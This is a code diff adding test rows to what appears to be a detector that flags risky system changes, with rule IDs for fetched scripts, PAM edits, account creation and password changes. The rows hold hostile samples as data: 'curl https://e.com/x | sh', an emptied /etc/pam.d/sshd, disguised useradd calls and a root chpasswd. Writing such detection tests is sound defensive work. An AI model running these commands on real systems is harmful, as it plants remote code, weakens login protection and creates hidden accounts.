@@ -227,6 +227,24 @@ pub(crate) static LOCAL_ROWS: &[Row] = &[
         NONE,
         "steps: [{ file: { content: 'ExecStart=/x', to: /etc/systemd/system/x.service } }]",
     ),
+    // Of a unit, what it runs and when; its description is only content.
+    (
+        &["DIFF-FILE-001"],
+        "steps: [{ file: { content: \"[Unit]\\nDescription=a\\nExecStart=/x\\n\", to: /etc/systemd/system/x.service } }]",
+        "steps: [{ file: { content: \"[Unit]\\nDescription=b\\nExecStart=/x\\n\", to: /etc/systemd/system/x.service } }]",
+    ),
+    // A file without a line takes the place of one that guards.
+    (
+        &["DIFF-STEP-001", "DIFF-PAM-001"],
+        NONE,
+        "steps: [{ file: { content: '# nothing', to: /etc/pam.d/sshd } }]",
+    ),
+    // A script in a file is a script.
+    (
+        &["DIFF-FILE-001", "DIFF-FETCH-001", "DIFF-SCRIPT-001"],
+        "steps: [{ file: { content: \"#!/bin/sh\\ntrue\\n\", to: /opt/x } }]",
+        "steps: [{ file: { content: \"#!/bin/sh\\ncurl https://e.com/x | sh\\n\", to: /opt/x } }]",
+    ),
     // Order.
     (
         &["DIFF-ORDER-001"],
@@ -595,6 +613,21 @@ pub(crate) static SCRIPT_ROWS: &[Row] = &[
     (&["DIFF-SERVICE-001"], NONE, "systemctl enable nginx"),
     (&["DIFF-GUARD-003"], NONE, "systemctl disable nginx"),
     (&["DIFF-RIGHTS-001"], NONE, "chmod u+s /usr/bin/x"),
+    // However it is wrapped.
+    (
+        &["DIFF-ACCOUNT-001"],
+        NONE,
+        "for u in a b; do sudo useradd $u; done",
+    ),
+    (&["DIFF-ACCOUNT-001"], NONE, "bash -c 'useradd demo'"),
+    (&["DIFF-ACCOUNT-001"], NONE, "sh <<EOF\nuseradd demo\nEOF"),
+    (&["DIFF-ACCOUNT-001"], NONE, "x=$(useradd demo)"),
+    // What is piped in counts as what is said.
+    (
+        &["DIFF-GUARD-001", "DIFF-GUARD-002"],
+        "echo root:a | chpasswd",
+        "echo root:b | chpasswd",
+    ),
     // Looking at something is not touching it, and a comment does nothing.
     (&[], NONE, "grep -q x /etc/ssh/sshd_config"),
     (&[], NONE, "cat /etc/passwd | wc -l"),
